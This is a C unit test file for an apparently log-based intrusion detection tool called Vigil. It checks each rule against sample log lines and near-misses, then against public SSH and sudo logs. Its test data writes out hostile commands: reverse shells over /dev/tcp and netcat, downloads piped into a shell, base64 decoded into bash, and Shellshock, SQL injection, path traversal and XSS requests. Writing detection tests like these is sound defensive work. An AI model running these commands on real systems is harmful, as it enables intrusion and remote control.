/* Vigil's rule pack (rules/): each rule fires on its positive examples and
 * not on near-misses, with lines going through the real decoders
 * (vg_decode) and the detect engine (vg_detect_run). Every rule of the pack
 * must have at least one positive case here. Then real data: every
 * "Failed password" / "Invalid user" line of loghub's OpenSSH_2k.log and of
 * the wazuh-tests sshd.ini/sudo.ini lines gives the matching alert, counted
 * independently from the text (strstr on the raw lines). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include "vigil/decode.h"
#include "vigil/detect.h"

struct pcase {
    const char *title;               /* rule title */
    const char *const *pos;          /* lines that must fire it */
    const char *const *neg;          /* near-misses that must not */
};

/* Rules that only feed correlations (no correlation using them says
 * generate: true): their positives make no alert of their own. The
 * correlations themselves are tested in tests/unit/pack/. */
static const char *const quiet_titles[] = {"SSH Login Accepted", "Firewall Dropped An Inbound Connection"};

static bool is_quiet(const char *title)
{
    for (size_t i = 0; i < VG_ARRAY_LEN(quiet_titles); i++)
        if (strcmp(quiet_titles[i], title) == 0) return true;
    return false;
}

#define L(...) (const char *const[]){__VA_ARGS__, NULL}
#define SYS "Jan  5 10:00:00 web1 "

static const struct pcase cases[] = {
    {"SSH Failed Password",
     L(SYS "sshd[10]: Failed password for alice from 203.0.113.9 port 4242 ssh2",
       SYS "sshd[10]: Failed password for invalid user bob from 203.0.113.9 port 4242 ssh2"),
     L(SYS "sshd[10]: Accepted password for alice from 203.0.113.9 port 4242 ssh2",
       SYS "sshd[10]: Failed publickey for alice from 203.0.113.9 port 4242 ssh2",
       SYS "notsshd[10]: Failed password for alice from 203.0.113.9 port 4242 ssh2")},
    {"SSH Failed Password For Root",
     L(SYS "sshd[10]: Failed password for root from 203.0.113.9 port 4242 ssh2"),
     L(SYS "sshd[10]: Failed password for rooter from 203.0.113.9 port 4242 ssh2",
       SYS "sshd[10]: Accepted password for root from 203.0.113.9 port 4242 ssh2")},
    {"SSH Login Attempt For Unknown User",
     L(SYS "sshd[10]: Invalid user oracle from 203.0.113.9", SYS "sshd[10]: Invalid user admin from 203.0.113.9 port 5555"),
     L(SYS "sshd[10]: Accepted password for oracle from 203.0.113.9 port 4242 ssh2")},
    {"Successful SSH Password Login As Root",
     L(SYS "sshd[10]: Accepted password for root from 203.0.113.9 port 4242 ssh2"),
     L(SYS "sshd[10]: Accepted publickey for root from 203.0.113.9 port 4242 ssh2: RSA SHA256:x",
       SYS "sshd[10]: Accepted password for alice from 203.0.113.9 port 4242 ssh2",
       SYS "sshd[10]: Failed password for root from 203.0.113.9 port 4242 ssh2")},
    {"Successful SSH Public Key Login As Root",
     L(SYS "sshd[10]: Accepted publickey for root from 203.0.113.9 port 4242 ssh2: ED25519 SHA256:x"),
     L(SYS "sshd[10]: Accepted publickey for deploy from 203.0.113.9 port 4242 ssh2: ED25519 SHA256:x")},
    {"SSH Maximum Authentication Attempts Exceeded",
     L(SYS "sshd[10]: error: maximum authentication attempts exceeded for root from 203.0.113.9 port 22 ssh2 [preauth]"),
     L(SYS "sshd[10]: Disconnected from 203.0.113.9 port 22 [preauth]")},
    {"SSH Login By User Not Allowed",
     L(SYS "sshd[10]: User games from 203.0.113.9 not allowed because shell /usr/sbin/nologin is not executable"),
     L(SYS "sshd[10]: Invalid user games from 203.0.113.9")},
    {"SSH Login Accepted",
     L(SYS "sshd[10]: Accepted password for alice from 203.0.113.9 port 4242 ssh2",
       SYS "sshd[10]: Accepted publickey for deploy from 203.0.113.9 port 4242 ssh2: ED25519 SHA256:x"),
     L(SYS "sshd[10]: Failed password for alice from 203.0.113.9 port 4242 ssh2")},
    {"Sudo Authentication Failure",
     L(SYS "sudo:     mike : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/ls"),
     L(SYS "sudo:     mike : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/ls")},
    {"Sudo By User Not In Sudoers",
     L(SYS "sudo:     ddp2 : user NOT in sudoers ; TTY=ttypZ ; PWD=/home/ddp2 ; USER=root ; COMMAND=/bin/ls"),
     L(SYS "sudo:     ddp2 : TTY=ttypZ ; PWD=/home/ddp2 ; USER=root ; COMMAND=/bin/ls")},
    {"Root Shell Through Sudo",
     L(SYS "sudo: cplummer : TTY=pts/2 ; PWD=/home/c ; USER=root ; COMMAND=/bin/bash",
       SYS "sudo: ann : TTY=pts/2 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/zsh -l"),
     L(SYS "sudo: cplummer : TTY=pts/2 ; PWD=/home/c ; USER=root ; COMMAND=/usr/bin/bashful",
       SYS "sudo: cplummer : TTY=pts/2 ; PWD=/home/c ; USER=root ; COMMAND=/usr/bin/ssh host")},
    {"Su Through Sudo",
     L(SYS "sudo:  mike : TTY=pts/0 ; PWD=/home/vagrant ; USER=root ; COMMAND=/bin/su -"),
     L(SYS "sudo:  mike : TTY=pts/0 ; PWD=/home/vagrant ; USER=root ; COMMAND=/usr/bin/sudoedit x")},
    {"Sudoers Changed Through Sudo",
     L(SYS "sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/visudo",
       SYS "sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers"),
     L(SYS "sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/hosts")},
    {"Service Enabled Through Sudo",
     L(SYS "sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl enable --now evil.service"),
     L(SYS "sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl status evil.service")},
    {"Download Piped To A Shell Through Sudo",
     L(SYS "sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c curl -fsSL http://x.example/i.sh | sh"),
     L(SYS "sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/f http://x.example/f")},
    {"Local User Account Created",
     L(SYS "useradd[123]: new user: name=evil, UID=1001, GID=1001, home=/home/evil, shell=/bin/bash"),
     L(SYS "useradd[123]: failed adding user 'evil', data deleted")},
    {"Local User Created With UID 0",
     L(SYS "useradd[123]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash"),
     L(SYS "useradd[123]: new user: name=toor, UID=1000, GID=0, home=/root, shell=/bin/bash")},
    {"User Added To A Privileged Group",
     L(SYS "usermod[124]: add 'evil' to group 'sudo'", SYS "gpasswd[124]: user evil added by root to group wheel",
       SYS "usermod[124]: add 'evil' to group 'docker'"),
     L(SYS "usermod[124]: add 'evil' to group 'users'", SYS "usermod[124]: delete 'evil' from group 'sudo'")},
    {"Local User Account Deleted", L(SYS "userdel[125]: delete user 'evil'"), L(SYS "userdel[125]: removed group 'evil' owned by 'evil'")},
    {"Local Group Created", L(SYS "groupadd[11]: group added to /etc/group: name=hackers, GID=1005"),
     L(SYS "groupdel[11]: group 'hackers' removed")},
    {"Root Password Changed",
     L(SYS "passwd[126]: pam_unix(passwd:chpasswd): password changed for root",
       SYS "chpasswd[12]: pam_unix(chpasswd:chauthtok): password changed for root"),
     L(SYS "passwd[126]: pam_unix(passwd:chpasswd): password changed for alice")},
    {"Failed Su To Root", L(SYS "su[1]: FAILED SU (to root) bob on pts/0"),
     L(SYS "su[1]: Successful su for root by bob", SYS "su[1]: FAILED SU (to alice) bob on pts/0")},
    {"Crontab Replaced Or Edited", L(SYS "crontab[127]: (root) REPLACE (root)", SYS "crontab[127]: (bob) BEGIN EDIT (bob)"),
     L(SYS "crontab[127]: (bob) LIST (bob)", SYS "CRON[12]: (root) CMD (run-parts /etc/cron.hourly)")},
    {"Cron Job Pipes A Download Into A Shell", L(SYS "CRON[555]: (root) CMD (curl -s http://x.example/p.sh | sh)",
                                                 SYS "CRON[555]: (www) CMD (wget -q -O- http://x.example/p|bash)"),
     L(SYS "CRON[555]: (root) CMD (curl -s -o /var/tmp/feed.xml http://x.example/feed)", SYS "CRON[555]: (root) CMD (cat x | sh)")},
    {"Systemd Unit Enabled",
     L(SYS "systemd[1]: Created symlink /etc/systemd/system/multi-user.target.wants/x.service -> /etc/systemd/system/x.service."),
     L(SYS "systemd[1]: Removed /etc/systemd/system/multi-user.target.wants/x.service.",
       SYS "notd[1]: Created symlink /etc/systemd/system/multi-user.target.wants/x.service")},
    {"Systemd Unit File Created",
     L("type=PATH msg=audit(1450770603.209:1): item=1 name=\"/etc/systemd/system/bd.service\" inode=1 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE"),
     L("type=PATH msg=audit(1450770603.209:1): item=1 name=\"/etc/systemd/system/bd.service\" inode=1 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
       "type=PATH msg=audit(1450770603.209:1): item=1 name=\"/etc/hosts\" inode=1 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE")},
    {"Downloader Executed", L("type=EXECVE msg=audit(1450770603.209:2): argc=3 a0=\"curl\" a1=\"-o\" a2=\"/tmp/x\"",
                              "type=EXECVE msg=audit(1450770603.209:2): argc=2 a0=\"/usr/bin/wget\" a1=\"http://x/\""),
     L("type=EXECVE msg=audit(1450770603.209:2): argc=2 a0=\"curlew\" a1=\"x\"")},
    {"Netcat Or Socat Executed",
     L("type=EXECVE msg=audit(1450770603.209:3): argc=3 a0=\"nc\" a1=\"10.0.0.1\" a2=\"4444\"",
       "type=EXECVE msg=audit(1450770603.209:3): argc=2 a0=\"/usr/bin/socat\" a1=\"-\""),
     L("type=EXECVE msg=audit(1450770603.209:3): argc=2 a0=\"/usr/bin/ncdu\" a1=\"/\"")},
    {"Python Inline Code Executed",
     L("type=EXECVE msg=audit(1450770603.209:4): argc=3 a0=\"python3\" a1=\"-c\" a2=\"import pty;pty.spawn('/bin/sh')\""),
     L("type=EXECVE msg=audit(1450770603.209:4): argc=2 a0=\"python3\" a1=\"script.py\"")},
    {"Interactive Shell Started By Command",
     L("type=EXECVE msg=audit(1450770603.209:5): argc=2 a0=\"bash\" a1=\"-i\""),
     L("type=EXECVE msg=audit(1450770603.209:5): argc=3 a0=\"bash\" a1=\"-c\" a2=\"ls\"")},
    {"Reverse Shell Command Line",
     L("type=EXECVE msg=audit(1450770603.209:6): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"",
       "type=EXECVE msg=audit(1450770603.209:6): argc=4 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"10.0.0.1 4444\"",
       "type=EXECVE msg=audit(1450770603.209:6): argc=3 a0=\"sh\" a1=\"-c\" a2=\"mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f | sh > /tmp/f\""),
     L("type=EXECVE msg=audit(1450770603.209:6): argc=3 a0=\"nc\" a1=\"-z\" a2=\"10.0.0.1 22\"",
       "type=EXECVE msg=audit(1450770603.209:6): argc=3 a0=\"cat\" a1=\"/dev/null\" a2=\"x\"")},
    {"Base64 Decoded Into A Shell",
     L("type=EXECVE msg=audit(1450770603.209:7): argc=3 a0=\"sh\" a1=\"-c\" a2=\"echo Y3VybA== | base64 -d | bash\""),
     L("type=EXECVE msg=audit(1450770603.209:7): argc=3 a0=\"sh\" a1=\"-c\" a2=\"echo Y3VybA== | base64 -d > /tmp/x\"")},
    {"Shadow Password File Accessed",
     L("type=PATH msg=audit(1450770603.209:8): item=0 name=\"/etc/shadow\" inode=1 dev=fd:00 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL"),
     L("type=PATH msg=audit(1450770603.209:8): item=0 name=\"/etc/shadow-\" inode=1 dev=fd:00 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL",
       "type=PATH msg=audit(1450770603.209:8): item=0 name=\"/etc/passwd\" inode=1 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL")},
    {"SQL Injection Attempt In Request",
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /item.php?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
       "198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /q?id=1%27%20or%201%3d1-- HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\""),
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /item.php?id=17&sort=name HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"")},
    {"Path Traversal Attempt In Request",
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /download?file=../../../../etc/passwd HTTP/1.1\" 404 12 \"-\" \"curl/8.0\"",
       "198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /static/..%2f..%2fapp.ini HTTP/1.1\" 404 12 \"-\" \"curl/8.0\""),
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /static/app.css HTTP/1.1\" 200 12 \"-\" \"curl/8.0\"")},
    {"Cross-Site Scripting Attempt In Request",
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0\""),
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /search?q=scripting+tutorial HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0\"")},
    {"Shellshock Attempt In Request Headers",
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 12 \"-\" \"() { :;}; /bin/bash -c 'id'\""),
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0 (X11; Linux)\"")},
    {"Web Vulnerability Scanner User Agent",
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
       "198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.00 (Nikto/2.1.6)\""),
     L("198.51.100.7 - - [10/Oct/2025:13:55:36 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0 (Windows NT 10.0)\"")},
    {"Firewall Dropped An Inbound Connection",
     L(SYS "kernel: [12345.678] IPTABLES-DROP: IN=eth0 OUT= MAC=00 SRC=198.51.100.7 DST=10.0.0.1 LEN=60 TTL=50 ID=1 DF PROTO=TCP SPT=1234 DPT=8080 WINDOW=1 RES=0x00 SYN URGP=0",
       SYS "kernel: [12345.678] [UFW BLOCK] IN=eth0 OUT= MAC=00 SRC=198.51.100.7 DST=10.0.0.1 LEN=60 TTL=50 ID=1 PROTO=UDP SPT=1234 DPT=161 LEN=40"),
     L(SYS "kernel: [12345.678] IPTABLES-ACCEPT: IN=eth0 OUT= MAC=00 SRC=198.51.100.7 DST=10.0.0.1 LEN=60 TTL=50 ID=1 DF PROTO=TCP SPT=1234 DPT=22 WINDOW=1 RES=0x00 SYN URGP=0",
       SYS "kernel: [12345.678] IPTABLES-DROP: IN=eth0 OUT= MAC=00 SRC=198.51.100.7 DST=10.0.0.1 LEN=60 TTL=50 ID=1 PROTO=ICMP TYPE=8 CODE=0")},
    {"Firewall Dropped Connection To A Sensitive Port",
     L(SYS "kernel: [12345.678] IPTABLES-DROP: IN=eth0 OUT= MAC=00 SRC=198.51.100.7 DST=10.0.0.1 LEN=60 TTL=50 ID=1 DF PROTO=TCP SPT=1234 DPT=3389 WINDOW=1 RES=0x00 SYN URGP=0"),
     L(SYS "kernel: [12345.678] IPTABLES-DROP: IN=eth0 OUT= MAC=00 SRC=198.51.100.7 DST=10.0.0.1 LEN=60 TTL=50 ID=1 DF PROTO=TCP SPT=1234 DPT=8080 WINDOW=1 RES=0x00 SYN URGP=0",
       SYS "kernel: [12345.678] IPTABLES-ACCEPT: IN=eth0 OUT= MAC=00 SRC=198.51.100.7 DST=10.0.0.1 LEN=60 TTL=50 ID=1 DF PROTO=TCP SPT=1234 DPT=22 WINDOW=1 RES=0x00 SYN URGP=0")},
};

static struct vg_detect *det;
static size_t pack_rules;

static const char *src_dir(void)
{
    const char *s = getenv("VG_SRC");
    return s && *s ? s : ".";
}

static const char *shared_dir(void)
{
    const char *s = getenv("VG_SHARED");
    return s && *s ? s : "../shared";
}

static int setup(void **st)
{
    (void)st;
    char pack[4096];
    snprintf(pack, sizeof pack, "%s/rules", src_dir());
    struct vg_detect_opts o = {.pack = pack};
    struct vg_sigma_report rep = VG_SIGMA_REPORT_INIT;
    struct vg_detect_load_info li;
    struct vg_err err = VG_ERR_INIT;
    int rc = vg_detect_new(&det, &o, &rep, &li, &err);
    if (rc) fprintf(stderr, "load: %s\n", err.msg);
    for (size_t i = 0; i < rep.nrej; i++) fprintf(stderr, "rejected %s:%d: %s\n", rep.rej[i].file, rep.rej[i].line, rep.rej[i].reason);
    vg_sigma_report_release(&rep);
    if (rc || li.rejected || li.loaded < 25) return -1;
    pack_rules = li.loaded;
    return 0;
}

static int teardown(void **st)
{
    (void)st;
    vg_detect_free(det);
    return 0;
}

/* Decodes one line and returns how many alerts of rule `title` it makes
 * (title NULL: all alerts). With keep, the batch (owner of the alerts) is
 * handed to the caller and *first is the first such alert. */
static int fires_keep(const char *line, const char *title, struct vg_batch **keep, const struct vg_alert **first)
{
    struct vg_batch *b = vg_batch_new(4);
    struct vg_event *ev = vg_batch_push(b);
    ev->tenant = "default";
    ev->collector = "test";
    vg_time_parse_iso("2026-06-01T00:00:00Z", 20, &ev->recv_ts);
    ev->seq = 1;
    assert_int_equal(vg_event_set_raw(ev, line, strlen(line)), 0);
    struct vg_decode_opts d = {0};
    vg_decode(ev, &d, NULL);
    int n = vg_detect_run(det, b, "test.log", true);
    assert_true(n >= 0);
    int k = 0;
    for (struct vg_alert *a = b->alerts; a; a = a->next) {
        if (title && strcmp(a->title, title) != 0) continue;
        if (first && !k) *first = a;
        k++;
    }
    if (keep) *keep = b;
    else vg_batch_free(b);
    return k;
}

static int fires(const char *line, const char *title, void *unused)
{
    (void)unused;
    return fires_keep(line, title, NULL, NULL);
}

static void test_cases(void **st)
{
    (void)st;
    size_t failures = 0;
    for (size_t i = 0; i < VG_ARRAY_LEN(cases); i++) {
        for (const char *const *p = cases[i].pos; *p; p++)
            if (fires(*p, cases[i].title, NULL) != (is_quiet(cases[i].title) ? 0 : 1)) { printf("FAIL positive: %s: %s\n", cases[i].title, *p); failures++; }
        for (const char *const *p = cases[i].neg; *p; p++)
            if (fires(*p, cases[i].title, NULL) != 0) { printf("FAIL near-miss fired: %s: %s\n", cases[i].title, *p); failures++; }
    }
    printf("%zu rule cases, %zu failures\n", VG_ARRAY_LEN(cases), failures);
    assert_int_equal(failures, 0);
}

/* Vigil's own health events are not log lines: they are built the way
 * src/ingest/src_agent.c builds them (collector "vigil", already decoded). */
static int health_fires(const char *action, const char *title)
{
    struct vg_batch *b = vg_batch_new(2);
    struct vg_event *ev = vg_batch_push(b);
    const char *raw = "vigil: agent db-01 (id, tenant default) is silent";
    assert_int_equal(vg_event_set_raw(ev, raw, strlen(raw)), 0);
    ev->tenant = "default";
    ev->host = "db-01";
    ev->collector = "vigil";
    ev->format = "vigil";
    ev->ts = ev->recv_ts = vg_now_ns();
    assert_int_equal(vg_event_add_str(ev, VG_FID_EVENT_ACTION, VG_FF_ECS, action, strlen(action)), 0);
    assert_int_equal(vg_event_add_named(ev, "agent.name", VG_FF_ECS, "db-01", 5), 0);
    vg_event_finish(ev);
    assert_true(vg_detect_run(det, b, NULL, true) >= 0);
    int k = 0;
    for (struct vg_alert *a = b->alerts; a; a = a->next) k += strcmp(a->title, title) == 0;
    vg_batch_free(b);
    return k;
}

#define HEALTH_RULES 1 /* rules/vigil/: tested by test_health below */

static void test_health(void **st)
{
    (void)st;
    assert_int_equal(health_fires("agent_silent", "Vigil Agent Stopped Reporting"), 1);
    assert_int_equal(health_fires("agent_resumed", "Vigil Agent Stopped Reporting"), 0);
    /* the same action from a log line of some other source is not a health event */
    assert_int_equal(fires(SYS "myapp[1]: event.action=agent_silent", "Vigil Agent Stopped Reporting", NULL), 0);
}

/* Every rule of the pack has a case above (titles are unique in the pack). */
static void test_coverage(void **st)
{
    (void)st;
    assert_int_equal(VG_ARRAY_LEN(cases) + HEALTH_RULES, pack_rules);
    for (size_t i = 0; i < VG_ARRAY_LEN(cases); i++)
        for (size_t j = 0; j < i; j++) assert_string_not_equal(cases[i].title, cases[j].title);
}

/* Alert metadata the licence and the UI need. */
static void test_metadata(void **st)
{
    (void)st;
    const struct vg_alert *a = NULL;
    struct vg_batch *b = NULL;
    assert_int_equal(fires_keep(SYS "sshd[10]: Failed password for root from 203.0.113.9 port 4242 ssh2",
                                "SSH Failed Password For Root", &b, &a),
                     1);
    assert_string_equal(a->author, "Vigil project");
    assert_int_equal(a->level, VG_ALERT_MEDIUM);
    assert_int_equal(a->tactics.n, 1);
    assert_string_equal(a->tactics.v[0], "credential_access");
    assert_string_equal(a->techniques.v[0], "T1110.001");
    assert_string_equal(a->source_ip, "203.0.113.9");
    assert_string_equal(a->origin.file, "test.log");
    vg_batch_free(b);
}

static char *slurp(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    if (!f) return NULL;
    struct vg_buf b = VG_BUF_INIT;
    b.cap_limit = 64u << 20;
    char tmp[65536];
    size_t n;
    while ((n = fread(tmp, 1, sizeof tmp, f)) > 0)
        if (vg_buf_add(&b, tmp, n)) break;
    fclose(f);
    return vg_buf_detach(&b, len);
}

/* OpenSSH_2k.log: alert counts equal counts taken from the text. */
static void test_openssh(void **st)
{
    (void)st;
    char path[4096];
    snprintf(path, sizeof path, "%s/data/linux/loghub/OpenSSH_2k.log", shared_dir());
    size_t len;
    char *text = slurp(path, &len);
    assert_non_null(text);
    long want_fail = 0, want_inv = 0, want_root = 0, got_fail = 0, got_inv = 0, got_root = 0, lines = 0;
    for (char *p = text; p < text + len;) {
        char *nl = memchr(p, '\n', (size_t)(text + len - p));
        size_t n = nl ? (size_t)(nl - p) : (size_t)(text + len - p);
        char line[4096];
        if (n >= sizeof line) n = sizeof line - 1;
        memcpy(line, p, n);
        line[n] = 0;
        lines++;
        /* rsyslog's "message repeated N times: [ Failed password ... ]" is one event too;
         * sshd logs an unknown user twice ("Invalid user" and "input_userauth_request:
         * invalid user"), each its own event */
        want_fail += strstr(line, "Failed password for ") != NULL;
        want_inv += strstr(line, "]: Invalid user ") != NULL || strstr(line, "input_userauth_request: invalid user ") != NULL;
        want_root += strstr(line, "Failed password for root from ") != NULL;
        got_fail += fires(line, "SSH Failed Password", NULL);
        got_inv += fires(line, "SSH Login Attempt For Unknown User", NULL);
        got_root += fires(line, "SSH Failed Password For Root", NULL);
        p = nl ? nl + 1 : text + len;
    }
    printf("OpenSSH_2k: %ld lines; failed password %ld/%ld, invalid user %ld/%ld, root failures %ld/%ld (alerts/lines)\n",
           lines, got_fail, want_fail, got_inv, want_inv, got_root, want_root);
    assert_true(want_fail > 100 && want_inv > 100 && want_root > 100);
    assert_int_equal(got_fail, want_fail);
    assert_int_equal(got_inv, want_inv);
    assert_int_equal(got_root, want_root);
    vg_free(text);
}

/* wazuh-tests ini lines: sshd and sudo lines give the expected alerts. */
static void test_wazuh(void **st)
{
    (void)st;
    static const struct { const char *file, *needle, *title; } checks[] = {
        {"sshd.ini", "]: Failed password for ", "SSH Failed Password"},
        {"sshd.ini", "]: Invalid user ", "SSH Login Attempt For Unknown User"},
        {"sudo.ini", "user NOT in sudoers", "Sudo By User Not In Sudoers"},
        {"sudo.ini", "incorrect password attempt", "Sudo Authentication Failure"},
    };
    for (size_t c = 0; c < VG_ARRAY_LEN(checks); c++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/data/linux/wazuh-tests/%s", shared_dir(), checks[c].file);
        size_t len;
        char *text = slurp(path, &len);
        assert_non_null(text);
        long want = 0, got = 0;
        for (char *p = text; p < text + len;) {
            char *nl = memchr(p, '\n', (size_t)(text + len - p));
            size_t n = nl ? (size_t)(nl - p) : (size_t)(text + len - p);
            char line[8192];
            if (n >= sizeof line) n = sizeof line - 1;
            memcpy(line, p, n);
            line[n] = 0;
            p = nl ? nl + 1 : text + len;
            char *eq = strstr(line, " pass = ");
            if (strncmp(line, "log ", 4) != 0 || !eq || !strstr(eq, checks[c].needle)) continue;
            want++;
            int k = fires(eq + 8, checks[c].title, NULL);
            if (k != 1) printf("no '%s' alert for: %s\n", checks[c].title, eq + 8);
            got += k == 1;
        }
        printf("wazuh %s '%s': %ld of %ld lines alert\n", checks[c].file, checks[c].title, got, want);
        assert_true(want > 0);
        assert_int_equal(got, want);
        vg_free(text);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_coverage), cmocka_unit_test(test_cases), cmocka_unit_test(test_metadata),
        cmocka_unit_test(test_openssh), cmocka_unit_test(test_wazuh), cmocka_unit_test(test_health),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
